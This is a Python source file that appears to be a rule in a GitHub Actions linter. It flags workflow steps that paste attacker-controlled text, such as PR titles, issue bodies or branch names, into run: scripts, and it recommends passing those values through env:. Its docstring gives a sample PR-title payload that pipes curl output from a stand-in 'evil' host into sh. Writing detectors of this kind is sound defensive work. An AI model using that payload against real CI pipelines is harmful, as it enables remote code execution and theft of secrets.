"""template-injection: ``${{ }}`` with attacker-controlled text inside a ``run:`` script (or github-script).

The runner pastes the value into the script before the shell reads it, so a
pull request title like ``"; curl evil | sh #`` runs. Hand such values over
through ``env:`` and quote the variable instead.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

from ci_helper.results import Finding
from ci_helper.rules.base import Context, finding
from ci_helper.runner.expressions import parser as p
from ci_helper.runner.expressions.errors import ExpressionError
from ci_helper.runner.expressions.template import split
from ci_helper.workflows import Scalar, Source, Step

ID = "template-injection"

# Context paths whose text anyone who opens an issue, comments or pushes a branch chooses.
_ATTACKER = re.compile(
    r"^github\.(?:head_ref"
    r"|event\.(?:issue|pull_request|discussion)\.(?:title|body)"
    r"|event\.(?:comment|review|review_comment)\.body"
    r"|event\.pages\.\*\.page_name"
    r"|event\.(?:commits\.\*|head_commit)\.(?:message|author\.(?:email|name))"
    r"|event\.pull_request\.head\.(?:ref|label|repo\.default_branch)"
    r"|event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name)))"
    r"|event\.(?:release\.(?:name|body)|inputs\.[\w-]+|client_payload(?:\.[\w*-]+)*))$"
)


def _path(node: Any) -> str | None:
    """``github.event.issue.title`` for a chain of property accesses, None for anything else."""
    parts = []
    while isinstance(node, p.Index):
        if isinstance(node.index, p.Wildcard):
            parts.append("*")
        elif isinstance(node.index, p.Literal) and isinstance(node.index.value, str):
            parts.append(node.index.value)
        else:
            return None
        node = node.target
    if not isinstance(node, p.NamedValue):
        return None
    return ".".join([node.name.lower(), *reversed(parts)])


def attacker_paths(text: str) -> list[str]:
    """The attacker-controlled context paths ``text``'s expressions read, in order."""
    found: list[str] = []
    if "${{" not in text:
        return found
    try:
        segments = split(text)
    except ValueError:
        return found
    for is_expression, content in segments:
        if not is_expression or not content:
            continue
        try:
            tree = p.parse(content)
        except ExpressionError:
            continue
        for node in p.walk(tree):
            path = _path(node)
            if path is not None and _ATTACKER.match(path) and path not in found:
                found.append(path)
    return found


def _scripts(step: Step) -> Iterator[Scalar]:
    if step.run is not None:
        yield step.run
    ref = step.ref
    if ref is not None and ref.action_name == "actions/github-script":
        script = step.with_.get("script")
        if script is not None:
            yield script


class TemplateInjection:
    id = ID
    summary = "${{ }} with attacker-controlled text (PR/issue titles and bodies, branch names...) inside a script"

    def check(self, ctx: Context) -> Iterator[Finding]:
        for workflow in ctx.tree.workflows:
            for job in workflow.jobs:
                for step in job.steps:
                    yield from _step(workflow.source, step)
        for action in ctx.tree.actions:
            for step in action.steps:
                yield from _step(action.source, step)


def _step(source: Source, step: Step) -> Iterator[Finding]:
    for script in _scripts(step):
        for path in attacker_paths(script.value):
            line, column = source.locate(script, path.split(".")[-1].replace("*", ""))
            yield finding(
                ID,
                f"'{path}' is pasted into the script of step '{step.label}' before it runs: whoever "
                "writes that text runs code; pass it through env: and quote the variable",
                source.rel,
                line,
                column,
                step=step.label,
            )


RULE = TemplateInjection()
